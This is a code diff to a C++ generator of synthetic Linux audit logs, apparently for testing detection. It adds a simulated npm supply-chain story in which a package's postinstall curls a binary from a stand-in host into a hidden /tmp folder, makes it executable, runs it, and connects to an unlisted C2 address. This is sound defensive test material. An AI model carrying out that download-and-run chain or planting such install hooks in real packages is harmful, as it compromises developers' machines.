@@ -82,6 +82,27 @@ private:
     quint64 m_state;
 };
 
+// Draws from a stream of its own while it lives, then puts the shared stream back where
+// it stood. A story added to the demo later uses one, so that the draws (and with them the
+// events, pids, inodes and serials) of everything written before it stay as they were.
+class RandomStream
+{
+public:
+    RandomStream(Random &shared, quint64 seed)
+        : m_shared(shared)
+        , m_saved(shared)
+    {
+        m_shared = Random(seed);
+    }
+    ~RandomStream() { m_shared = m_saved; }
+    RandomStream(const RandomStream &) = delete;
+    RandomStream &operator=(const RandomStream &) = delete;
+
+private:
+    Random &m_shared;
+    Random m_saved;
+};
+
 quint32 ipv4(const char *dotted)
 {
     quint32 value = 0;
@@ -137,6 +158,7 @@ struct FileInfo
     quint32 uid = 0;
     quint32 gid = 0;
     QByteArray interpreter; // "#!" line of a script, else empty
+    QByteArray interpreterArg; // the one argument a "#!" line may add ("#!/usr/bin/env node")
     bool isStatic = false; // statically linked: execve loads no ld.so
 };
 
@@ -203,6 +225,8 @@ QByteArray FileSystem::resolve(const QByteArray &path) const
         return QByteArrayLiteral("/usr/bin/vim.basic");
     if (p == LdSo)
         return QByteArrayLiteral("/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2");
+    if (p == "/usr/bin/npm") // NodeSource's nodejs package
+        return QByteArrayLiteral("/usr/lib/node_modules/npm/bin/npm-cli.js");
     return p;
 }
 
@@ -274,6 +298,7 @@ public:
     quint64 stackPointer() { return 0x7ffc00000000ULL + (rng.next() % 0x3fffffffULL) * 16; }
 
     Proc fork(Proc &parent, quint64 flags = CloneFork);
+    Proc vfork(Proc &parent);
     LinuxScenarioExec exec(Proc &p, const QByteArray &file, const QList<QByteArray> &argv);
     void exit(Proc &p, int status = 0);
     LinuxScenarioConnect connect(Proc &p, const char *address, quint16 port, bool nonBlocking, int fd);
@@ -363,6 +388,31 @@ Proc Host::fork(Proc &parent, quint64 flags)
     return child;
 }
 
+Proc Host::vfork(Proc &parent)
+{
+    // Debian 12's dash starts each external command with vfork(), which takes no
+    // arguments: a0..a3 are what the registers held. glibc's wrapper pops its return
+    // address into rdi, so a0 points into dash's text.
+    Proc child = parent;
+    child.t.pid = newPid();
+    child.t.ppid = parent.t.pid;
+    AuditSyscall call;
+    call.number = AuditSyscallNr::Vfork;
+    call.exit = child.t.pid;
+    call.a0 = 0x55d000000000ULL + (rng.next() % 0xfffffffULL) * 16 + 0x6;
+    call.a1 = stackPointer();
+    call.a2 = 0;
+    call.a3 = 8;
+    call.key = QByteArrayLiteral("proc");
+    const AuditTask task = parent.t;
+    add([call, task](AuditLogWriter &w) {
+        w.syscall(call, task);
+        w.proctitle(task.argv);
+    });
+    pause(0, 1);
+    return child;
+}
+
 void Host::failedExec(Proc &p, const QByteArray &candidate)
 {
     AuditSyscall call;
@@ -409,7 +459,10 @@ LinuxScenarioExec Host::exec(Proc &p, const QByteArray &file, const QList<QByteA
     QByteArray exe = fs.resolve(path);
     if (!info->interpreter.isEmpty()) {
         // binfmt_script: the interpreter runs with the script's path as its argument.
-        newArgv = QList<QByteArray> {info->interpreter, path} + argv.mid(1);
+        newArgv = QList<QByteArray> {info->interpreter};
+        if (!info->interpreterArg.isEmpty())
+            newArgv.append(info->interpreterArg);
+        newArgv += QList<QByteArray> {path} + argv.mid(1);
         items.append(pathItem(info->interpreter, info->interpreter, "NORMAL"));
         exe = fs.resolve(info->interpreter);
     }
@@ -725,6 +778,7 @@ public:
     Scenario(const LinuxScenarioOptions &options, Random &random)
         : h(options, random)
         , m_t0(options.start.toMSecsSinceEpoch())
+        , m_seed(options.seed)
     {
     }
 
@@ -757,11 +811,16 @@ private:
     void storyCInstall(Session &admin);
     void storyCFirstRun();
     void storyCEgress();
+    void storyD();
     void payload(Proc &parent, quint64 cloneFlags, const QList<QByteArray> &shArgv, const char *address, quint16 port,
         const QList<QList<QByteArray>> &commands, LinuxScenarioRun &run);
     void periodicConnects(qint64 until);
 
     qint64 m_t0;
+    quint64 m_seed;
+    // The next poll of each periodic connect, so that a later call carries on from there.
+    qint64 m_nextNtp = -1;
+    qint64 m_nextZabbix = -1;
     Proc m_systemd;
     Proc m_sshd;
     Proc m_logsweepd;
@@ -1338,17 +1397,145 @@ void Scenario::storyCEgress()
         {{"uname", "-m"}, {"cat", "/etc/os-release"}}, story.firstRuns[0]);
 }
 
+// $PATH as npm's @npmcli/run-script sets it for a package's lifecycle scripts: the
+// node_modules/.bin of the package directory and of every directory above it, npm's
+// node-gyp shim, then the user's $PATH.
+QByteArray npmScriptPath(const QByteArray &packageDir, const QByteArray &userPath)
+{
+    QByteArray path;
+    QByteArray dir = packageDir;
+    for (;;) {
+        path += (dir == "/" ? QByteArray() : dir) + "/node_modules/.bin:";
+        if (dir == "/")
+            break;
+        dir = dir.lastIndexOf('/') > 0 ? dirName(dir) : QByteArrayLiteral("/");
+    }
+    return path + "/usr/lib/node_modules/npm/node_modules/@npmcli/run-script/lib/node-gyp-bin:" + userPath;
+}
+
+void Scenario::storyD()
+{
+    LinuxScenarioStory &story = stories[3];
+    const QByteArray package = "colorlog-utils";
+    const QByteArray project = "/home/lena/src/billing-ui";
+    const QByteArray packageDir = project + "/node_modules/" + package;
+    const QByteArray agent = "/tmp/.cache-7f3a/telemetry-agent";
+    story.package = QString::fromLatin1(package);
+    story.version = QStringLiteral("1.4.2");
+    story.packages = {story.package + u'@' + story.version};
+    story.toolPath = QString::fromLatin1(agent);
+
+    // NodeSource's nodejs, installed after the base system: /usr/bin/npm links to
+    // npm-cli.js, whose "#!/usr/bin/env node" makes env exec node through $PATH.
+    h.fs.add("/usr/bin/env", 0100755, h.rng.between(153000, 154000));
+    h.fs.add("/usr/bin/node", 0100755, h.rng.between(171000, 172000));
+    FileInfo &cli = h.fs.add("/usr/lib/node_modules/npm/bin/npm-cli.js", 0100755, h.rng.between(172000, 180000));
+    cli.interpreter = "/usr/bin/env";
+    cli.interpreterArg = "node";
+
+    // A developer logs in and works on a web project.
+    h.setTime(at(254 * Minute) + h.rng.between(0, 30 * Second));
+    Session dev = sshLogin("lena", 1002, "10.20.4.63", 1);
+    dev.shell.t.cwd = project; // cd is a builtin: no record
+    command(dev.shell, "/usr/bin/git", {"git", "log", "--oneline", "-5"}, 40);
+    hourlyCron(257 * Minute);
+
+    // npm install: bash execs /usr/bin/npm, binfmt_script runs env, env walks $PATH to
+    // node. The kernel passes the script as the path bash used, so node's argv names
+    // /usr/bin/npm, not the link's target.
+    h.setTime(at(258 * Minute) + h.rng.between(0, 40 * Second));
+    Proc npm = h.fork(dev.shell);
+    h.exec(npm, "/usr/bin/npm", {"npm", "install", package});
+    story.install = h.exec(npm, "node", {"node", "/usr/bin/npm", "install", package});
+    story.commandLine = story.install.argv.join(u' ');
+    // npm sets process.title, which libuv writes over argv and into comm (prctl
+    // PR_SET_NAME): its later records say comm="npm install col" and the PROCTITLE is
+    // the title, while the EXECVE record keeps the real argv.
+    h.pause(150, 400);
+    npm.t.comm = QByteArray("npm install " + package).left(15);
+    npm.t.argv = {"npm install " + package};
+    // The registry proxy: metadata and tarball over one keep-alive connection.
+    story.installEgress.append(h.connect(npm, story.repoAddress.toLatin1().constData(), 443, true, 21));
+    h.pause(900, 2500);
+
+    // The package's "postinstall": "node install.js". npm spawns sh through the script
+    // $PATH (libuv's execvp probes each directory with execve); dash finds node with
+    // stat() and vforks it, so install.js runs as sh's child.
+    Proc lifecycle = h.fork(npm);
+    lifecycle.t.cwd = packageDir;
+    lifecycle.pathEnv = npmScriptPath(packageDir, UserPathEnv);
+    story.installDescendants.append(h.exec(lifecycle, "sh", {"sh", "-c", "node install.js"}));
+    h.pause(2, 8);
+    Proc script = h.vfork(lifecycle);
+    story.installDescendants.append(h.exec(script, "/usr/bin/node", {"node", "install.js"}));
+    h.pause(40, 120);
+
+    // install.js: execFileSync("curl", …) into a hidden folder in /tmp, chmod +x, then
+    // spawn(…, {detached: true}). /tmp is not watched, so no record shows the write.
+    const QByteArray url = "https://203.0.113.77/d/telemetry-agent";
+    Proc curl = h.fork(script);
+    story.installDescendants.append(h.exec(curl, "curl", {"curl", "-fsSL", "-o", agent, url}));
+    h.pause(5, 20);
+    story.installEgress.append(h.connect(curl, "203.0.113.77", 443, true, 5));
+    h.pause(700, 2200);
+    FileInfo &binary = h.fs.add(agent, 0100644);
+    binary.uid = binary.gid = dev.uid;
+    binary.isStatic = true; // a Go binary
+    h.exit(curl);
+    Proc chmod = h.fork(script);
+    story.installDescendants.append(h.exec(chmod, "chmod", {"chmod", "+x", agent}));
+    if (auto *info = const_cast<FileInfo *>(h.fs.find(agent)))
+        info->mode = 0100755;
+    h.pause(1, 3);
+    h.exit(chmod);
+
+    // The first run: setsid() before the exec leaves the terminal behind. The agent
+    // runs a shell (Go's os/exec vforks) and reaches its C2 while install.js still waits
+    // a moment before it exits, so it is still the agent's parent.
+    Proc tool = h.fork(script);
+    tool.t.tty = "(none)";
+    LinuxScenarioRun run;
+    run.exec = h.exec(tool, agent, {agent});
+    h.pause(200, 600);
+    Proc sh = h.fork(tool, CloneVfork);
+    run.descendants.append(h.exec(sh, "/bin/sh", {"/bin/sh", "-c", "id; uname -a"}));
+    for (const QList<QByteArray> &argv : {QList<QByteArray> {"id"}, QList<QByteArray> {"uname", "-a"}}) {
+        Proc child = h.vfork(sh);
+        run.descendants.append(h.exec(child, "/usr/bin/" + argv.first(), argv));
+        h.pause(1, 5);
+        h.exit(child);
+    }
+    h.exit(sh);
+    h.pause(50, 300);
+    run.egress.append(h.connect(tool, "198.51.100.203", 443, true, 7));
+    story.firstRuns.append(run);
+    h.pause(300, 900);
+    h.exit(script);
+    h.exit(lifecycle);
+    h.pause(400, 1500);
+    story.installEnd = toDateTime(h.now() / 1000 * 1000);
+    h.exit(npm);
+
+    h.pause(20 * Second, 60 * Second);
+    command(dev.shell, "/usr/bin/git", {"git", "status", "--short"}, 60);
+    h.pause(Minute, 3 * Minute);
+    sshLogout(dev);
+}
+
 void Scenario::periodicConnects(qint64 until)
 {
     // systemd-timesyncd polls the NTP server (UDP: connect returns at once); the zabbix
     // agent's active checks go to the monitoring server. Both inside the approved /24.
-    for (qint64 t = at(Minute) + h.rng.between(0, 999); t < until; t += 34 * Minute + h.rng.between(0, 30 * Second)) {
-        h.setTime(t);
+    if (m_nextNtp < 0)
+        m_nextNtp = at(Minute) + h.rng.between(0, 999);
+    for (; m_nextNtp < until; m_nextNtp += 34 * Minute + h.rng.between(0, 30 * Second)) {
+        h.setTime(m_nextNtp);
         h.connect(timesyncd, "192.0.2.123", 123, false, 13);
     }
-    for (qint64 t = at(2 * Minute) + h.rng.between(0, 999); t < until;
-         t += 10 * Minute + h.rng.between(0, 5 * Second)) {
-        h.setTime(t);
+    if (m_nextZabbix < 0)
+        m_nextZabbix = at(2 * Minute) + h.rng.between(0, 999);
+    for (; m_nextZabbix < until; m_nextZabbix += 10 * Minute + h.rng.between(0, 5 * Second)) {
+        h.setTime(m_nextZabbix);
         h.connect(zabbix, "192.0.2.20", 10051, true, 7);
     }
 }
@@ -1375,7 +1562,21 @@ void Scenario::build()
                              "three hours after the install");
     c.repoUrl = QStringLiteral("http://apt.logsweep.example/debian");
     c.repoAddress = QStringLiteral("198.51.100.77");
-    stories = {a, b, c};
+    LinuxScenarioStory d;
+    d.label = QStringLiteral("d");
+    d.title = QStringLiteral("npm lifecycle script: a package from the approved registry proxy runs install.js, "
+                             "which downloads a binary into /tmp (no audited write) and runs it; its first run "
+                             "starts sh and connects to an unlisted host");
+    d.expectMismatchedChain = true;
+    d.expectedMismatches = {QStringLiteral("host_not_approved"), QStringLiteral("unexpected_child")};
+    d.packageManager = QStringLiteral("npm");
+    d.writeObserved = false;
+    d.repoUrl = QStringLiteral("https://npm.corp.example/");
+    d.repoAddress = QStringLiteral("192.0.2.30");
+    d.repoApproved = true;
+    a.expectedMismatches = {
+        QStringLiteral("host_not_approved"), QStringLiteral("repo_not_approved"), QStringLiteral("unexpected_child")};
+    stories = {a, b, c, d};
 
     // Built in time order, so that pids and sessions grow with time as on a real host.
     boot();
@@ -1412,6 +1613,12 @@ void Scenario::build()
     hourlyCron(197 * Minute);
     storyCEgress();
     periodicConnects(h.now());
+    {
+        // (d) came to the demo later, after (c) in time; see RandomStream.
+        RandomStream own(h.rng, m_seed ^ 0x6e706d2d73746f72ULL);
+        storyD();
+        periodicConnects(h.now());
+    }
 }
 
 // Benign events streamed between the story events: the ops user's commands (single and
@@ -1744,6 +1951,12 @@ LinuxScenarioResult writeLinuxScenario(const QString &directory, const LinuxScen
     };
     for (LinuxScenarioStory &story : scenario.stories) {
         story.install.serial = serialOf(story.install.serial);
+        for (LinuxScenarioExec &e : story.installDescendants)
+            e.serial = serialOf(e.serial);
+        for (LinuxScenarioConnect &c : story.installEgress) {
+            c.serial = serialOf(c.serial);
+            c.approved = inApprovedNetwork(c.address);
+        }
         for (LinuxScenarioWrite &w : story.writes)
             w.serial = serialOf(w.serial);
         for (LinuxScenarioRun &run : story.firstRuns) {
@@ -1761,7 +1974,7 @@ LinuxScenarioResult writeLinuxScenario(const QString &directory, const LinuxScen
     result.end = toDateTime(lastStory);
     result.windowMinutes = 90;
     result.approvedUpdateHosts = {QStringLiteral("mirror.corp.example"), QStringLiteral("deb.debian.org"),
-        QStringLiteral("security.debian.org"), QStringLiteral("192.0.2.0/24")};
+        QStringLiteral("security.debian.org"), QStringLiteral("npm.corp.example"), QStringLiteral("192.0.2.0/24")};
     result.unlistedNetworks = {QStringLiteral("203.0.113.0/24"), QStringLiteral("198.51.100.0/24")};
     result.stories = scenario.stories;
     result.auditEvents = writer.events();
